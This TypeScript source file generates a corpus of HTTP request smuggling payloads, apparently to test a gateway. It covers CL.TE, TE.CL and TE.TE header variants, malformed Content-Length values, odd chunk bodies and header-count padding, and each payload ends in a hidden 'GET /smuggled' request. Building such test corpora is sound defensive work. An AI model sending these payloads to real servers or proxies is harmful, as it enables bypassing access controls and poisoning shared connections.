/**
 * Requests that try to hide a second request from the gateway. Built from the families that published attacks use (CL.TE, TE.CL,
 * TE.TE, chunk extensions, header counts, white space and Unicode variants); each ends in a hidden `GET /smuggled`.
 */
const HIDDEN = 'GET /smuggled HTTP/1.1\r\nHost: svc\r\n\r\n';

/** Ways to write a Transfer-Encoding line that one parser takes for chunked and another does not. */
export const TE_VARIANTS: string[] = [
  'Transfer-Encoding: chunked',
  'Transfer-Encoding : chunked',
  'Transfer-Encoding\t: chunked',
  'Transfer-Encoding:\tchunked',
  'Transfer-Encoding:chunked',
  'Transfer-Encoding:  chunked',
  'Transfer-Encoding: chunked ',
  'Transfer-Encoding: \x0bchunked',
  'Transfer-Encoding: chunked\x0b',
  'Transfer-Encoding: \x0cchunked',
  'Transfer-Encoding: \x85chunked',
  'Transfer-Encoding: \xa0chunked',
  'Transfer-Encoding: chunked\0',
  'Transfer-Encoding: xchunked',
  'Transfer-Encoding: chunked, identity',
  'Transfer-Encoding: identity, chunked',
  'Transfer-Encoding: gzip, chunked',
  'Transfer-Encoding: chunked, chunked',
  'Transfer-Encoding: "chunked"',
  "Transfer-Encoding: 'chunked'",
  'Transfer-Encoding: chunked;x=y',
  'Transfer-Encoding: ,chunked',
  'Transfer-Encoding: chunked,',
  'Transfer-Encoding:',
  'Transfer-Encoding: \r\n chunked',
  'Transfer-Encoding: chunked\r\n x',
  'Transfer-Encoding: x\r\nTransfer-Encoding: chunked',
  'Transfer-Encoding: chunked\r\nTransfer-Encoding: x',
  'Transfer_Encoding: chunked',
  'transfer-encoding: CHUNKED',
  'TRANSFER-ENCODING: chunked',
  'X: y\nTransfer-Encoding: chunked',
  'X: y\rTransfer-Encoding: chunked',
  ' Transfer-Encoding: chunked',
  '\tTransfer-Encoding: chunked',
  'Transfer-Encoding\0: chunked',
  'Tran\xadsfer-Encoding: chunked',
  'Transfer-Encoding: chun\xc5\xbfked',
  'Transfer-\u212ancoding: chunked'.replace('\u212a', '\xe2\x84\xaa'),
  'Foo: bar\r\n\rTransfer-Encoding: chunked',
  'Transfer-Encoding;chunked',
  'Transfer-Encoding=chunked',
];

const LENGTH_VARIANTS: string[] = [
  'Content-Length: +0',
  'Content-Length: -0',
  'Content-Length: 0 0',
  'Content-Length: 0,0',
  'Content-Length: 0, 44',
  'Content-Length: 0x0',
  'Content-Length: 0_0',
  'Content-Length: 00000000000000000000000',
  'Content-Length: \xb2',
  'Content-Length: 1e1',
  'Content-Length : 0',
  'Content-Length\t: 0',
  'Content-Length: 0\r\nContent-Length: 44',
  'Content-Length: 44\r\nContent-Length: 0',
  'Content-Length: 0\r\nContent-Length: 0',
  'Content-Length: \r\n 0',
  'Content-Length: 0\0',
  'Content-Length:\x0b0',
  'Content-Length: 18446744073709551616',
  'Content-Length: 9007199254740993',
];

const CHUNK_BODIES: string[] = [
  `0\r\n\r\n${HIDDEN}`,
  `0\n\n${HIDDEN}`,
  `0;\n\r\n${HIDDEN}`,
  `0;a\nb\r\n\r\n${HIDDEN}`,
  `1\na\r\n0\r\n\r\n${HIDDEN}`,
  `1;\ra\r\n0\r\n\r\n${HIDDEN}`,
  `1 \r\na\r\n0\r\n\r\n${HIDDEN}`,
  `1\r\naX0\r\n\r\n${HIDDEN}`,
  `1\r\na\n0\r\n\r\n${HIDDEN}`,
  `0x1\r\na\r\n0\r\n\r\n${HIDDEN}`,
  `100000000000000000\r\na\r\n0\r\n\r\n${HIDDEN}`,
  `FFFFFFFFFFFFFFFF\r\n${HIDDEN}`,
  `-1\r\n${HIDDEN}`,
  `\r\n0\r\n\r\n${HIDDEN}`,
  `0\r\nContent-Length: 44\r\n\r\n${HIDDEN}`,
  `0\r\nTransfer-Encoding: chunked\r\n\r\n${HIDDEN}`,
  `0\r\nHost : x\r\n\r\n${HIDDEN}`,
];

export interface Attack {
  name: string;
  octets: string;
}

/** All of them; deterministic. */
export function smugglingCorpus(): Attack[] {
  const attacks: Attack[] = [];
  const post = (lines: string, body: string, version = '1.1') =>
    `POST /first HTTP/${version}\r\nHost: svc\r\n${lines}\r\n\r\n${body}`;
  const teBody = `0\r\n\r\n${HIDDEN}`;
  for (const te of TE_VARIANTS) {
    attacks.push({ name: `CL.TE ${te}`, octets: post(`Content-Length: ${teBody.length}\r\n${te}`, teBody) });
    attacks.push({ name: `TE.CL ${te}`, octets: post(`${te}\r\nContent-Length: 4`, `2c\r\n${HIDDEN}\r\n0\r\n\r\n`) });
    attacks.push({ name: `TE alone ${te}`, octets: post(te, teBody) });
    attacks.push({ name: `TE in 1.0 ${te}`, octets: post(te, teBody, '1.0') });
  }
  for (const length of LENGTH_VARIANTS) attacks.push({ name: `CL ${length}`, octets: post(length, HIDDEN) });
  for (const body of CHUNK_BODIES)
    attacks.push({ name: `chunks ${body.slice(0, 20)}`, octets: post('Transfer-Encoding: chunked', body) });
  for (const count of [99, 100, 101, 500, 1999, 2001]) {
    attacks.push({
      name: `${count} header lines before the length`,
      octets: post(`${'A: b\r\n'.repeat(count)}Content-Length: ${HIDDEN.length}`, HIDDEN),
    });
  }
  for (const line of [
    'GET /first HTTP/1.1\r\nHost: svc\r\nContent-Length: 44',
    'GET /first\r\n\r\nGET /smuggled HTTP/1.1\r\nHost: svc',
    'GET /first HTTP/1.1\nHost: svc\n\nGET /smuggled HTTP/1.1\nHost: svc',
    'GET /first HTTP/1.1\r\nHost: svc\r\nX: a\0\r\n\r\nGET /smuggled HTTP/1.1',
    'GET /first HTTP/1.1\r\nHost: svc\r\nHost: other',
    'GET /first HTTP/1.1\r\nHost: svc\r\nConnection: Content-Length\r\nContent-Length: 44',
    'GET /first HTTP/1.1\r\nHost: svc\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA',
  ]) {
    attacks.push({ name: line, octets: `${line}\r\n\r\n${HIDDEN}` });
  }
  return attacks;
}
